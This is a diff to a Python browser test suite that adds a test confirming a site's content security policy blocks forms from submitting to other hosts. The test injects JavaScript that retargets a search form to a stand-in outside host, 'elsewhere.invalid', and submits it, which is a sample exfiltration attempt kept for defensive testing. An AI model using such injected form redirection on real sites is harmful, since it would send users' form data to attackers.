@@ -359,3 +359,15 @@ def test_no_script_runs_on_any_page(office: Office, context: BrowserContext) -> 
             "document.body.append(Object.assign(document.createElement('script'), {textContent: 'window.ran = 1'}))"
         )
     assert page.evaluate("window.ran") is None
+
+
+def test_no_form_is_sent_elsewhere(office: Office, context: BrowserContext) -> None:
+    page = context.new_page()
+    sign_in(page, office)
+    sent: list[str] = []
+    page.on("request", lambda request: sent.append(request.url))
+    with page.expect_console_message(lambda message: "form-action" in message.text):
+        page.evaluate(
+            "(it => { it.action = 'http://elsewhere.invalid/'; it.submit(); })(document.querySelector('.find'))"
+        )
+    assert [url for url in sent if "elsewhere" in url] == []
